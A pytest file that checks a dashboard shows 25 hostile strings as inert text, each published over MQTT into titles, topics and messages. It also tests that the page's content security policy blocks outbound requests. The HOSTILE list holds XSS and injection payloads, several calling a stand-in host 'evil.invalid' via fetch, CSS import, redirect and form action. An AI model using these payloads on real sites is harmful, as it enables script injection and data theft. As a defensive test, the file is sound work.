"""What strangers write does nothing in a dashboard but be read: 25 hostile texts in each of five places."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from tests.brokers.hivemq import HiveMQ
from tests.browser.chromium import Chromium, screenshot
from tests.browser.dashboard_page import DashboardPage, opened

import honeyframe as hf

_RUN = "window.pwned=1;alert(1);fetch('https://evil.invalid/')"
HOSTILE = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'<svg onload="{_RUN}">',
    f'"><svg/onload={_RUN}>',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"javascript:{_RUN}",
    f'<a href="javascript:{_RUN}">x</a>',
    "<style>@import 'https://evil.invalid/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>Connect</button></form>",
    f"<!--<script>{_RUN}",
    f"]]><script>{_RUN}</script>",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    f'<template><script>{_RUN}</script></template><details open ontoggle="{_RUN}">',
    "__proto__",
    "constructor",
    "\u202egnp.exe\u2066\u200b<b>bidi</b>",
    "\u2028alert(1)\u2029\ufeff\u0085&lt;script&gt;&#x3c;",
    '=HYPERLINK("https://evil.invalid/","x")\t\r\n\x1b[31mred\x07',
]
_INVISIBLE = re.compile("[\x00-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff0-\uffff]")


def shown(text: str) -> str:
    """As the page shows it."""
    return _INVISIBLE.sub(lambda found: f"\\u{ord(found[0]):04x}", text)


def shown_lines(text: str) -> str:
    """As the page shows a text of several lines."""
    return _INVISIBLE.sub(lambda found: found[0] if found[0] in "\n\t" else shown(found[0]), text.replace("\r\n", "\n"))


def as_topic(text: str) -> str:
    """Brokers end the connection over control characters in a topic."""
    return "x/" + re.sub("[+#\x00-\x1f\x7f-\x9f]", "", text)


@pytest.fixture(scope="module")
def page(chromium: Chromium, hivemq: HiveMQ, ca_file: str, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A dashboard in which all of it has come."""
    panels = [{"value": "v", "topics": f"none/{i}", "title": text, "unit": text} for i, text in enumerate(HOSTILE)]
    path: Path = tmp_path_factory.mktemp("hostile") / "d.html"
    with hf.connect(hivemq.uri("mqtts"), username="both", password="both-password", ca_file=ca_file) as client:
        dashboard = client.dashboard(path, panels=panels, title=HOSTILE[1], topics="x/#", websocket_url=hivemq.uri("wss"))
        with opened(chromium, dashboard) as page:
            page.page.on("dialog", lambda dialog: (page.record.errors.append(dialog.message), dialog.dismiss()))
            page.connect()
            page.wait_for_state("connected")
            for i, text in enumerate(HOSTILE):
                client.publish(as_topic(text), b"1", qos=1)
                client.publish(f"x/json{i}", json.dumps({text: 1.5, "v": text}), qos=1)
                client.publish(f"x/text{i}", text.encode(), qos=1)
            page.page.get_by_role("tab", name="Messages").click()
            page.page.locator(".log li").nth(3 * len(HOSTILE) - 1).wait_for()
            yield page


def choose(page: DashboardPage, topic: str) -> None:
    """Clicks the message in the log."""
    name = json.dumps(topic)
    rows = f"[...document.querySelectorAll('.log button')].filter(b => b.querySelector('.name').textContent === {name})"
    found = page.evaluate(f"(() => {{ const [b] = {rows}; b?.click(); return b !== undefined; }})()")
    assert found, topic


def texts(page: DashboardPage, selector: str) -> list[str]:
    return list(page.evaluate(f"[...document.querySelectorAll({json.dumps(selector)})].map(e => e.textContent)"))


def test_it_is_shown_as_it_is_and_does_nothing(page: DashboardPage) -> None:
    names = texts(page, ".log .name")
    titles = texts(page, ".panel h2")
    for i, text in enumerate(HOSTILE):
        assert any(name.startswith(shown(as_topic(text))[:110]) for name in names), text
        assert shown(text)[:110] in titles[i]
        choose(page, f"x/json{i}")
        assert shown(text)[:70] in texts(page, ".json .key")[0]
        assert any(shown(text)[:200] in value for value in texts(page, ".json .string"))
        page.evaluate("document.querySelector('.json .pick').click()")  # a panel of it
        assert shown(text)[:110] in texts(page, ".panel:last-child h2")[0]
        choose(page, f"x/text{i}")
        assert texts(page, ".json pre") == [shown_lines(text)]
    for tab in ("Topics", "Publish", "Messages"):
        page.page.get_by_role("tab", name=tab).click()
        page.page.wait_for_timeout(300)
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert page.evaluate("({}).polluted === undefined && Object.keys(Object.prototype).length === 0")
    strange = "img, iframe, object, embed, link, base, meta[http-equiv=refresh], a, math, template, style:not(head > style), form[action]"
    assert page.evaluate(f"document.querySelectorAll({json.dumps(strange)}).length") == 0
    assert page.evaluate("[...document.querySelectorAll('*')].every(e => [...e.attributes].every(a => !a.name.startsWith('on')))")
    assert page.evaluate("document.scripts.length") == 3
    assert page.record.left_the_machine() == []
    assert page.unexpected() == []
    screenshot(page.page, "dashboard hostile")


def test_the_policy_holds_against_the_page_itself(page: DashboardPage) -> None:
    """Were there a hole in our code: nothing is sent, run, or made markup."""
    refused = page.evaluate(
        """new Promise(resolve => {
          const seen = [];
          const attempt = (name, act) => { try { act(); } catch (error) { seen.push(name + ": " + error.name); } };
          document.addEventListener("securitypolicyviolation", event => seen.push(event.effectiveDirective));
          attempt("socket", () => new WebSocket("wss://evil.invalid/"));
          attempt("fetch", () => fetch("https://evil.invalid/").catch(() => 0));
          attempt("image", () => { new Image().src = "https://evil.invalid/x.png"; });
          attempt("markup", () => { document.body.innerHTML = "<b>x</b>"; });
          attempt("script", () => { document.createElement("script").text = "window.pwned = 1"; });
          attempt("style", () => document.head.append(Object.assign(document.createElement("style"), { textContent: "p { color: red }" })));
          setTimeout(() => resolve([...new Set(seen)].sort()), 400);
        })"""
    )
    assert {"connect-src", "img-src", "markup: TypeError", "script: TypeError"} <= set(refused)
    assert any(one.startswith("style-src") for one in refused)
    assert page.evaluate("typeof window.pwned") == "undefined"
